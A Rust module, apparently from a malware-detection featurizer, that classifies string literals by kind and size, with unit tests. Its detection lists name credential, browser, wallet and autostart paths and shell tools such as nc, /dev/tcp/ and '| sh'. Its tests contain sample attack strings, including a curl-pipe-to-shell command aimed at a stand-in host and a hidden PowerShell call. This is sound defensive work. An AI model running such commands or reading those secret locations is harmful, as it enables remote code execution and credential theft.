//! Where string literals are classified.
//!
//! A string constant becomes either a verbatim token (short strings) or a class token such as
//! `STRING_INSECURE_URL`, followed for long strings by a size bucket. The classes are tried in a
//! fixed order and the first match wins:
//!
//! 1. semantic classes, for strings of any length: sensitive file path, localhost/private address,
//!    IP, insecure URL, URL, email, contains-URL, version, encoding, file path;
//! 2. strings of at most `short_string_max` characters that matched nothing stay verbatim;
//! 3. long strings: bash, SQL, code, hex, base64, else plain `STRING`; then `STRING_SIZE_S|M|L`.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

use crate::config::FeaturizerConfig;
pub use crate::malwicode::{SizeBucket, StringClass};

/// Classes tried on strings of every length; the rest only apply to long strings.
const SEMANTIC_CLASSES: usize = 10;

/// What a string constant turns into.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum StringToken {
    /// Short and unclassified: emitted quoted and escaped (`malwicode::write_verbatim`).
    Verbatim,
    Class(StringClass, Option<SizeBucket>),
}

pub fn classify(value: &str, config: &FeaturizerConfig) -> StringToken {
    let shape = Shape::of(value);
    for &class in &StringClass::ALL[..SEMANTIC_CLASSES] {
        if config.class_enabled(class) && matches_class(class, value, &shape) {
            return StringToken::Class(class, None);
        }
    }
    if shape.chars <= config.short_string_max {
        return StringToken::Verbatim;
    }
    let bucket = config.size_buckets.then(|| SizeBucket::of(shape.chars));
    for &class in &StringClass::ALL[SEMANTIC_CLASSES..] {
        if class == StringClass::Plain || (config.class_enabled(class) && matches_class(class, value, &shape)) {
            return StringToken::Class(class, bucket);
        }
    }
    unreachable!("STRING always matches")
}

/// What one pass over a string tells about it; each class check starts from these facts, so
/// most checks end before looking at the string again.
struct Shape {
    chars: usize,
    slash: bool,
    backslash: bool,
    dot: bool,
    colon: bool,
    at: bool,
    whitespace: bool,
    /// Whitespace other than line breaks (base64 may be wrapped, but never spaced).
    space: bool,
    newline: bool,
    scheme_separator: bool,
}

impl Shape {
    fn of(s: &str) -> Shape {
        let mut shape = Shape {
            chars: 0,
            slash: false,
            backslash: false,
            dot: false,
            colon: false,
            at: false,
            whitespace: false,
            space: false,
            newline: false,
            scheme_separator: false,
        };
        let mut continuation_bytes = 0;
        for &b in s.as_bytes() {
            match b {
                b'/' => shape.slash = true,
                b'\\' => shape.backslash = true,
                b'.' => shape.dot = true,
                b':' => shape.colon = true,
                b'@' => shape.at = true,
                b'\n' | b'\r' => {
                    shape.newline = true;
                    shape.whitespace = true;
                }
                b' ' | b'\t' | 0x0B | 0x0C => {
                    shape.space = true;
                    shape.whitespace = true;
                }
                0x80..=0xBF => continuation_bytes += 1,
                _ => {}
            }
        }
        shape.chars = s.len() - continuation_bytes;
        shape.scheme_separator = shape.colon && shape.slash && memchr::memmem::find(s.as_bytes(), b"://").is_some();
        shape
    }

    fn path_like(&self) -> bool {
        self.slash || self.backslash
    }
}

fn matches_class(class: StringClass, s: &str, shape: &Shape) -> bool {
    match class {
        StringClass::SensitiveFilePath => is_sensitive_path(s, shape),
        StringClass::Localhost => may_be_host(s, shape) && host_of(s).is_some_and(is_local_host),
        StringClass::Ip => may_be_host(s, shape) && host_of(s).is_some_and(|h| parse_ip(h).is_some()),
        StringClass::InsecureUrl => {
            shape.scheme_separator && url_scheme(s, shape).is_some_and(|scheme| INSECURE_SCHEMES.contains(&scheme))
        }
        StringClass::Url => shape.scheme_separator && url_scheme(s, shape).is_some(),
        StringClass::Email => shape.at && !shape.whitespace && is_email(s),
        StringClass::ContainsUrl => shape.scheme_separator && contains_url(s),
        StringClass::Version => shape.dot && !shape.whitespace && is_version(s),
        StringClass::Encoding => !shape.whitespace && is_encoding_name(s),
        StringClass::FilePath => is_file_path(s, shape),
        StringClass::Bash => is_bash(s),
        StringClass::Sql => shape.whitespace && is_sql(s),
        StringClass::Code => is_code(s),
        StringClass::Hex => !shape.whitespace && is_hex(s),
        StringClass::Base64 => !shape.space && is_base64(s),
        StringClass::Plain => true,
    }
}

/// Hosts, addresses and URLs have no whitespace and contain a dot or colon (or are `localhost`).
fn may_be_host(s: &str, shape: &Shape) -> bool {
    !shape.whitespace
        && (shape.dot
            || shape.colon
            || s.as_bytes().get(..9).is_some_and(|head| head.eq_ignore_ascii_case(b"localhost")))
}

// ---------------------------------------------------------------------------------------------
// Semantic classes

/// Fragments of paths to secrets, credentials, browser and wallet data, shell start-up files and
/// autostart locations. Matched case-insensitively anywhere in the string.
#[rustfmt::skip]
const SENSITIVE_PATH_FRAGMENTS: &[&str] = &[
    "/etc/passwd", "/etc/shadow", "/etc/sudoers", "/etc/gshadow", "/etc/crontab", "/etc/rc.local",
    "/etc/systemd/system", "/etc/init.d", "/etc/profile", "/etc/ld.so.preload", "/var/spool/cron",
    "/proc/self/environ", "/proc/self/mem", "/var/run/secrets", "/root/", ".ssh/", ".ssh\\", "id_rsa",
    "id_dsa", "id_ecdsa", "id_ed25519", "authorized_keys", "known_hosts", ".aws/credentials",
    ".aws\\credentials", ".aws/config", ".azure/", ".azure\\", ".config/gcloud", "gcloud\\",
    "application_default_credentials", ".kube/config", ".kube\\config", ".docker/config.json", ".npmrc",
    ".pypirc", ".netrc", "_netrc", ".git-credentials", ".gitconfig", ".vault-token", ".terraformrc",
    "credentials.json", "service-account", ".bash_history", ".zsh_history", ".python_history", ".bashrc",
    ".zshrc", ".bash_profile", ".zprofile", ".profile", ".gnupg", "secring.gpg", "/.env", "\\.env",
    "login data", "local state", "web data", "/cookies", "\\cookies", "network\\cookies", "cookies.sqlite",
    "logins.json", "key3.db", "key4.db", "signons.sqlite", "places.sqlite", "formhistory.sqlite",
    "local storage/leveldb", "local storage\\leveldb", "google/chrome", "google\\chrome", "chromium/",
    "chromium\\", "bravesoftware", "brave-browser", "microsoft\\edge", "microsoft/edge", "opera software",
    "yandex\\yandexbrowser", "vivaldi", "mozilla/firefox", "mozilla\\firefox", ".mozilla",
    "user data\\default", "wallet.dat", "exodus", "electrum", "atomic wallet", "atomic\\local storage",
    "metamask", "nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "phantom", "coinomi",
    "guarda", "jaxx", "armory", "bytecoin", "monero", ".ethereum", "keystore", "solana/id.json",
    ".config/solana", "ledger live", "trezor", "discord/local storage", "discord\\local storage",
    "discordcanary", "discordptb", "telegram desktop", "tdata", "filezilla", "recentservers.xml",
    "sitemanager.xml", ".purple/accounts.xml", "steam\\config", "ssfn", "winscp", "putty", "keychain",
    "login.keychain", "microsoft\\credentials", "microsoft\\protect", "microsoft\\vault",
    "\\start menu\\programs\\startup", "/start menu/programs/startup", "currentversion\\run", "launchagents",
    "launchdaemons", ".config/autostart", "sam\\sam", "system32\\config", "ntds.dit",
];

fn sensitive_paths() -> &'static AhoCorasick {
    static MATCHER: OnceLock<AhoCorasick> = OnceLock::new();
    MATCHER.get_or_init(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .build(SENSITIVE_PATH_FRAGMENTS)
            .expect("sensitive path fragments compile")
    })
}

fn is_sensitive_path(s: &str, shape: &Shape) -> bool {
    if s.len() < 4 || shape.newline || !(shape.path_like() || shape.dot) {
        return false;
    }
    sensitive_paths().find_iter(s).any(|m| {
        // A bare name ("electrum", "login data") only counts inside a path.
        let fragment = SENSITIVE_PATH_FRAGMENTS[m.pattern().as_usize()];
        fragment.contains(['/', '\\', '.']) || shape.path_like()
    })
}

/// The host part of a bare host, `host:port`, or a URL. `None` when the string is none of these.
fn host_of(s: &str) -> Option<&str> {
    if s.is_empty() || s.len() > 2048 || s.bytes().any(|b| b.is_ascii_whitespace()) {
        return None;
    }
    let rest = match s.find("://") {
        Some(i) if is_scheme(&s[..i]) => &s[i + 3..],
        Some(_) => return None,
        None => s,
    };
    let rest = rest.rsplit_once('@').map_or(rest, |(_, host)| host);
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = &rest[..end];
    if let Some(v6) = authority.strip_prefix('[') {
        return v6.split_once(']').map(|(host, _)| host);
    }
    if authority.bytes().filter(|&b| b == b':').count() > 1 {
        return Some(authority); // bare IPv6
    }
    Some(authority.split_once(':').map_or(authority, |(host, _)| host))
}

fn is_scheme(s: &str) -> bool {
    let b = s.as_bytes();
    !b.is_empty()
        && b.len() <= 16
        && b[0].is_ascii_alphabetic()
        && b.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'))
}

fn parse_ip(host: &str) -> Option<IpAddr> {
    host.parse::<IpAddr>().ok()
}

fn is_local_host(host: &str) -> bool {
    if host.eq_ignore_ascii_case("localhost") || host.to_ascii_lowercase().ends_with(".localhost") {
        return true;
    }
    match parse_ip(host) {
        Some(IpAddr::V4(ip)) => is_private_v4(ip),
        Some(IpAddr::V6(ip)) => ip.is_loopback() || ip.is_unspecified() || (ip.segments()[0] & 0xfe00) == 0xfc00,
        None => false,
    }
}

fn is_private_v4(ip: Ipv4Addr) -> bool {
    ip.is_loopback() || ip.is_private() || ip.is_unspecified() || ip.is_link_local()
}

#[rustfmt::skip]
const INSECURE_SCHEMES: &[&str] = &[
    "http", "ftp", "telnet", "ldap", "ws", "tftp", "gopher", "smb", "rtsp", "irc", "nntp", "mqtt", "redis",
    "mysql", "postgres", "postgresql", "mongodb", "amqp", "rsync", "vnc", "snmp", "rdp",
];

/// The lower-case scheme when the whole string is one URL (`scheme://host...`, no whitespace).
fn url_scheme(s: &str, shape: &Shape) -> Option<&'static str> {
    let (scheme, rest) = s.split_once("://")?;
    if !is_scheme(scheme) || rest.is_empty() || shape.whitespace {
        return None;
    }
    let host_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    if host_end == 0 && !scheme.eq_ignore_ascii_case("file") {
        return None;
    }
    let lower = scheme.to_ascii_lowercase();
    Some(INSECURE_SCHEMES.iter().chain(SECURE_SCHEMES).find(|known| **known == lower).copied().unwrap_or("other"))
}

const SECURE_SCHEMES: &[&str] = &["https", "wss", "sftp", "ftps", "ssh", "git", "s3", "file"];

fn is_email(s: &str) -> bool {
    if s.len() > 254 || s.bytes().any(|b| b.is_ascii_whitespace()) {
        return false;
    }
    let Some((local, domain)) = s.split_once('@') else { return false };
    if local.is_empty() || local.len() > 64 || domain.contains('@') {
        return false;
    }
    let local_ok = local.bytes().all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+/=?^_`{|}~.-".contains(&b));
    let Some((name, tld)) = domain.rsplit_once('.') else { return false };
    local_ok
        && !name.is_empty()
        && domain.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
        && tld.len() >= 2
        && tld.bytes().all(|b| b.is_ascii_alphabetic())
}

fn contains_url(s: &str) -> bool {
    let bytes = s.as_bytes();
    memchr::memmem::find_iter(bytes, b"://").any(|i| {
        let start = bytes[..i]
            .iter()
            .rposition(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.')))
            .map_or(0, |p| p + 1);
        i > start
            && bytes[start].is_ascii_alphabetic()
            && bytes.get(i + 3).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'[')
    })
}

/// `1.2`, `v1.2.3`, `3.10.0rc1`, `1.0.0-beta.2`: digits, at least one dot, short suffixes.
fn is_version(s: &str) -> bool {
    let body = s.strip_prefix(['v', 'V']).unwrap_or(s);
    let b = body.as_bytes();
    if b.is_empty() || b.len() > 40 || !b[0].is_ascii_digit() {
        return false;
    }
    let mut dots = 0;
    let mut prev_dot = false;
    for (i, &c) in b.iter().enumerate() {
        match c {
            b'.' => {
                if prev_dot || i + 1 == b.len() {
                    return false;
                }
                dots += 1;
                prev_dot = true;
            }
            b'0'..=b'9' | b'a'..=b'z' | b'A'..=b'Z' | b'-' | b'+' => prev_dot = false,
            _ => return false,
        }
    }
    // A run of letters must not dominate ("1.exe" is a file name, not a version).
    let letters = b.iter().filter(|c| c.is_ascii_alphabetic()).count();
    dots >= 1 && letters * 2 <= b.len() && b.split(|&c| c == b'.').next().unwrap().iter().all(u8::is_ascii_digit)
}

/// Character-set names (not binary transforms: `rot13`, `base64` or `zlib` stay verbatim).
#[rustfmt::skip]
const ENCODINGS: &[&str] = &[
    "utf-8", "utf8", "utf_8", "utf-8-sig", "utf_8_sig", "utf-16", "utf16", "utf_16", "utf-16le", "utf-16-le",
    "utf_16_le", "utf-16be", "utf-16-be", "utf_16_be", "utf-32", "utf32", "utf_32", "utf-32le", "utf-32be",
    "ascii", "us-ascii", "latin-1", "latin1", "latin_1", "iso-8859-1", "iso8859-1", "iso_8859_1",
    "iso-8859-2", "iso-8859-5", "iso-8859-15", "cp1250", "cp1251", "cp1252", "cp437", "cp850", "cp866",
    "cp932", "cp936", "cp949", "cp950", "cp65001", "windows-1250", "windows-1251", "windows-1252", "mbcs",
    "oem", "gbk", "gb2312", "gb18030", "big5", "shift_jis", "shift-jis", "sjis", "euc-jp", "euc_jp", "euc-kr",
    "euc_kr", "koi8-r", "koi8-u", "mac-roman", "macroman", "mac_roman", "idna", "punycode", "ucs-2", "ucs2",
    "binary", "utf-7", "utf7", "charmap", "unicode_escape", "raw_unicode_escape", "unicode-escape",
];

fn is_encoding_name(s: &str) -> bool {
    static SET: OnceLock<rustc_hash::FxHashSet<&'static str>> = OnceLock::new();
    if s.len() > 20 || s.is_empty() || !s.as_bytes()[0].is_ascii_alphabetic() {
        return false;
    }
    let mut buffer = [0u8; 20];
    let lower = &mut buffer[..s.len()];
    lower.copy_from_slice(s.as_bytes());
    lower.make_ascii_lowercase();
    let Ok(lower) = std::str::from_utf8(lower) else { return false };
    SET.get_or_init(|| ENCODINGS.iter().copied().collect()).contains(lower)
}

const MIME_PREFIXES: &[&str] =
    &["application/", "text/", "image/", "audio/", "video/", "multipart/", "font/", "model/"];

fn is_file_path(s: &str, shape: &Shape) -> bool {
    let b = s.as_bytes();
    let may_start_a_path = matches!(b.first(), Some(b'~' | b'%' | b'$'));
    if s.len() < 2
        || s.len() > 4096
        || shape.newline
        || shape.scheme_separator
        || !(shape.path_like() || may_start_a_path)
    {
        return false;
    }
    let absolute = b[0] == b'/'
        || s.starts_with("~/")
        || s.starts_with("~\\")
        || s.starts_with("./")
        || s.starts_with("../")
        || s.starts_with(".\\")
        || s.starts_with("..\\")
        || s.starts_with("\\\\")
        || (b.len() >= 3 && b[0].is_ascii_alphabetic() && b[1] == b':' && (b[2] == b'\\' || b[2] == b'/'))
        || s.starts_with('%') && s[1..].contains('%') && s.contains('\\')
        || s.starts_with("$HOME")
        || s.starts_with("${HOME}");
    if absolute {
        // "/" alone or "// comment"-like prose is not worth a class.
        return b.len() > 1 && !s.starts_with("//") && !s.contains(' ') || s.starts_with("\\\\");
    }
    if s.contains(' ') || MIME_PREFIXES.iter().any(|p| s.starts_with(p)) {
        return false;
    }
    // A relative path is names joined by separators (`pkg/mod.py`, `dir\\file.txt`): a regular
    // expression such as `\\d+\\.\\d+` or `^https?:\\/\\/` is not.
    let mut components = 0;
    for component in s.split(['/', '\\']) {
        if component.is_empty()
            || !component.bytes().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
        {
            return false;
        }
        components += 1;
    }
    let has_extension =
        s.rsplit(['/', '\\']).next().and_then(|name| name.rsplit_once('.')).is_some_and(|(stem, ext)| {
            !stem.is_empty() && (1..=8).contains(&ext.len()) && ext.bytes().all(|c| c.is_ascii_alphanumeric())
        });
    components >= 2 && (has_extension || components >= 3)
}

// ---------------------------------------------------------------------------------------------
// Long-string classes

#[rustfmt::skip]
const SHELL_COMMANDS: &[&str] = &[
    "curl", "wget", "bash", "sh", "zsh", "dash", "ksh", "chmod", "chown", "chattr", "rm", "mkdir", "cd",
    "echo", "cat", "nohup", "sudo", "su", "apt", "apt-get", "yum", "dnf", "apk", "brew", "pip", "pip3", "npm",
    "npx", "node", "python", "python3", "perl", "ruby", "php", "powershell", "powershell.exe", "pwsh", "cmd",
    "cmd.exe", "start", "bitsadmin", "certutil", "mshta", "rundll32", "regsvr32", "schtasks", "reg", "netsh",
    "wmic", "taskkill", "tasklist", "nc", "ncat", "netcat", "socat", "crontab", "systemctl", "service",
    "launchctl", "osascript", "git", "tar", "unzip", "gzip", "export", "whoami", "uname", "ls", "dir", "ping",
    "nslookup", "dig", "ssh", "scp", "kill", "pkill", "killall", "base64", "openssl", "xdg-open", "chmod",
    "mv", "cp", "touch", "find", "grep", "awk", "sed", "xargs", "env", "set", "eval", "exec", "source",
    "useradd", "usermod", "passwd", "iptables", "ufw", "docker", "kubectl", "vssadmin", "bcdedit", "attrib",
    "icacls", "takeown", "timeout", "sleep", "ifconfig", "ipconfig", "arp", "hostname", "id", "ps", "df",
    "mount", "dd", "shutdown", "reboot",
];

#[rustfmt::skip]
const SHELL_MARKERS: &[&str] = &[
    "| sh", "|sh", "| bash", "|bash", "2>&1", "/dev/null", "/dev/tcp/", "&& ", " || ", "$(", "nohup ",
    "chmod +x", "-encodedcommand", "-enc ", "invoke-expression", "iex(", "iex (", "downloadstring",
    "start-process", "new-object ", "/bin/sh", "/bin/bash", "cmd /c", "cmd.exe /c",
];

fn shell_markers() -> &'static AhoCorasick {
    static MATCHER: OnceLock<AhoCorasick> = OnceLock::new();
    MATCHER.get_or_init(|| {
        AhoCorasickBuilder::new().ascii_case_insensitive(true).build(SHELL_MARKERS).expect("shell markers compile")
    })
}

fn first_word(s: &str) -> &str {
    let trimmed = s.trim_start();
    let end = trimmed.find(|c: char| c.is_whitespace()).unwrap_or(trimmed.len());
    let word = &trimmed[..end];
    // "/usr/bin/curl" and "C:\\Windows\\System32\\cmd.exe" count as their command.
    word.rsplit(['/', '\\']).next().unwrap_or(word)
}

/// Long-string markers are looked for in the first 8 KiB: enough to tell a command or a script
/// from prose, without rescanning megabyte-long blobs.
const MARKER_SCAN_LIMIT: usize = 8 * 1024;

fn scan_head(s: &str) -> &[u8] {
    &s.as_bytes()[..s.len().min(MARKER_SCAN_LIMIT)]
}

fn is_bash(s: &str) -> bool {
    let word = first_word(s).to_ascii_lowercase();
    let has_args = s.trim().contains(char::is_whitespace);
    (has_args && SHELL_COMMANDS.contains(&word.as_str())) || shell_markers().is_match(scan_head(s))
}

fn is_sql(s: &str) -> bool {
    const STARTS: &[&str] =
        &["select", "insert", "update", "delete", "create", "drop", "alter", "pragma", "replace", "with"];
    const FOLLOWS: &[&str] = &[" from ", " into ", " table ", " set ", " values", " index ", " where ", " view "];
    let word = first_word(s).to_ascii_lowercase();
    if !STARTS.contains(&word.as_str()) {
        return false;
    }
    let lower = String::from_utf8_lossy(&scan_head(s)[..s.len().min(2000)]).to_ascii_lowercase();
    FOLLOWS.iter().any(|f| lower.contains(f))
}

#[rustfmt::skip]
const STRONG_CODE_MARKERS: &[&str] = &[
    "__import__(", "exec(", "eval(", "require(", "function(", "function (", "=> {", "=>{", "import os",
    "import sys", "import subprocess", "import base64", "from os ", "lambda ", "def ", "subprocess.",
    "os.system", "child_process", "document.", "window.", "process.env",
];
#[rustfmt::skip]
const WEAK_CODE_MARKERS: &[&str] = &[
   
    "import ", "return ", "print(", "var ", "const ", "let ", "class ", "if (", "for (", "while ", "();", "));", " = ",
    "self.", "this.", "{\n", ":\n", "}\n", ";\n",
];

fn code_markers() -> &'static (AhoCorasick, usize) {
    static MATCHER: OnceLock<(AhoCorasick, usize)> = OnceLock::new();
    MATCHER.get_or_init(|| {
        let all: Vec<&str> = STRONG_CODE_MARKERS.iter().chain(WEAK_CODE_MARKERS).copied().collect();
        let matcher = AhoCorasickBuilder::new().build(all).expect("code markers compile");
        (matcher, STRONG_CODE_MARKERS.len())
    })
}

fn is_code(s: &str) -> bool {
    let (matcher, strong) = code_markers();
    let mut weak_seen = 0u64;
    for m in matcher.find_overlapping_iter(scan_head(s)) {
        let id = m.pattern().as_usize();
        if id < *strong {
            return true;
        }
        weak_seen |= 1 << (id - strong);
        if weak_seen.count_ones() >= 2 {
            return true;
        }
    }
    false
}

fn is_hex(s: &str) -> bool {
    let body = s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")).unwrap_or(s);
    body.len() >= 16 && body.len().is_multiple_of(2) && body.bytes().all(|b| b.is_ascii_hexdigit())
}

fn is_base64(s: &str) -> bool {
    let mut len = 0usize;
    let mut padding = 0usize;
    let (mut upper, mut lower, mut digit, mut standard, mut url_safe) = (false, false, false, false, false);
    for b in s.bytes() {
        match b {
            b'\n' | b'\r' => continue,
            b'=' => {
                padding += 1;
                len += 1;
                continue;
            }
            _ if padding > 0 => return false,
            b'A'..=b'Z' => upper = true,
            b'a'..=b'z' => lower = true,
            b'0'..=b'9' => digit = true,
            b'+' | b'/' => standard = true,
            b'-' | b'_' => url_safe = true,
            _ => return false,
        }
        len += 1;
    }
    let mixed = (upper as u8 + lower as u8 + digit as u8) >= 2;
    let aligned = len.is_multiple_of(4) || (url_safe && padding == 0);
    len >= 16 && padding <= 2 && mixed && aligned && !(standard && url_safe)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn token(s: &str) -> String {
        match classify(s, &FeaturizerConfig::default()) {
            StringToken::Verbatim => "VERBATIM".into(),
            StringToken::Class(c, None) => c.token().into(),
            StringToken::Class(c, Some(b)) => format!("{} {}", c.token(), b.token()),
        }
    }

    #[test]
    fn semantic_classes_apply_to_short_strings() {
        assert_eq!(token("/etc/passwd"), "STRING_SENSITIVE_FILE_PATH");
        assert_eq!(token("~/.ssh/id_rsa"), "STRING_SENSITIVE_FILE_PATH");
        assert_eq!(token("localhost"), "STRING_LOCALHOST");
        assert_eq!(token("http://127.0.0.1:8000/x"), "STRING_LOCALHOST");
        assert_eq!(token("192.168.1.20"), "STRING_LOCALHOST");
        assert_eq!(token("45.61.139.10"), "STRING_IP");
        assert_eq!(token("http://45.61.139.10/p.sh"), "STRING_IP");
        assert_eq!(token("2001:db8::1"), "STRING_IP");
        assert_eq!(token("http://evil.example/x"), "STRING_INSECURE_URL");
        assert_eq!(token("ftp://files.example.org/a"), "STRING_INSECURE_URL");
        assert_eq!(token("https://pypi.org/simple"), "STRING_URL");
        assert_eq!(token("admin@example.com"), "STRING_EMAIL");
        assert_eq!(token("see https://docs.example.org for help"), "STRING_CONTAINS_URL");
        assert_eq!(token("1.2.3"), "STRING_VERSION");
        assert_eq!(token("v2.0.0-beta.1"), "STRING_VERSION");
        assert_eq!(token("utf-8"), "STRING_ENCODING");
        assert_eq!(token("/tmp/x"), "STRING_FILE_PATH");
        assert_eq!(token("C:\\Windows\\Temp\\a.exe"), "STRING_FILE_PATH");
        assert_eq!(token("src/pkg/mod.py"), "STRING_FILE_PATH");
        assert_eq!(token("dir\\file.txt"), "STRING_FILE_PATH");
        assert_eq!(token(r"\x68\x74"), "VERBATIM");
        assert_eq!(token(r"^https?:\/\/[a-z]+"), "VERBATIM");
        assert_eq!(token("a/b"), "VERBATIM");
    }

    #[test]
    fn short_unclassified_strings_stay_verbatim() {
        for s in ["", "os", "system", "rot13", "base64", "setup.py", "text/html", "42", "1", "a b"] {
            assert_eq!(token(s), "VERBATIM", "{s:?}");
        }
    }

    #[test]
    fn version_requires_a_dot() {
        assert_eq!(token("123"), "VERBATIM");
        assert_eq!(token("1.exe"), "VERBATIM");
        assert_eq!(token("3.10.0rc1"), "STRING_VERSION");
    }

    #[test]
    fn long_classes_carry_a_size_bucket() {
        assert_eq!(token("curl -s http://x.example/a.sh | sh"), "STRING_CONTAINS_URL");
        assert_eq!(token("powershell -nop -w hidden -c whoami"), "STRING_BASH STRING_SIZE_S");
        assert_eq!(token("SELECT name, value FROM cookies WHERE 1"), "STRING_SQL STRING_SIZE_S");
        assert_eq!(token("import os; os.system('id')"), "STRING_CODE STRING_SIZE_S");
        assert_eq!(token(&"ab".repeat(40)), "STRING_HEX STRING_SIZE_S");
        assert_eq!(token("aGVsbG8gd29ybGQgZnJvbSBtYWx3aQ=="), "STRING_BASE64 STRING_SIZE_S");
        assert_eq!(token(&"Hello world. ".repeat(10)), "STRING STRING_SIZE_M");
        assert_eq!(token(&"x".repeat(1001)), "STRING STRING_SIZE_L");
        assert_eq!(token(&"x".repeat(21)), "STRING STRING_SIZE_S");
    }

    #[test]
    fn size_bucket_edges() {
        assert_eq!(SizeBucket::of(21), SizeBucket::Small);
        assert_eq!(SizeBucket::of(100), SizeBucket::Small);
        assert_eq!(SizeBucket::of(101), SizeBucket::Medium);
        assert_eq!(SizeBucket::of(1000), SizeBucket::Medium);
        assert_eq!(SizeBucket::of(1001), SizeBucket::Large);
    }

    #[test]
    fn switched_off_classes_fall_through() {
        let mut config =
            FeaturizerConfig { disabled_string_classes: vec![StringClass::InsecureUrl], ..Default::default() };
        assert_eq!(classify("http://evil.example/x", &config), StringToken::Class(StringClass::Url, None));
        config.disabled_string_classes = vec![StringClass::Email];
        assert_eq!(classify("a@b.example", &config), StringToken::Verbatim);
        config.size_buckets = false;
        assert_eq!(classify(&"y".repeat(50), &config), StringToken::Class(StringClass::Plain, None));
    }

    #[test]
    fn order_is_the_documented_one() {
        let tokens: Vec<&str> = StringClass::ALL.iter().map(|c| c.token()).collect();
        assert_eq!(
            tokens.join(" "),
            "STRING_SENSITIVE_FILE_PATH STRING_LOCALHOST STRING_IP STRING_INSECURE_URL STRING_URL \
             STRING_EMAIL STRING_CONTAINS_URL STRING_VERSION STRING_ENCODING STRING_FILE_PATH \
             STRING_BASH STRING_SQL STRING_CODE STRING_HEX STRING_BASE64 STRING"
        );
    }
}
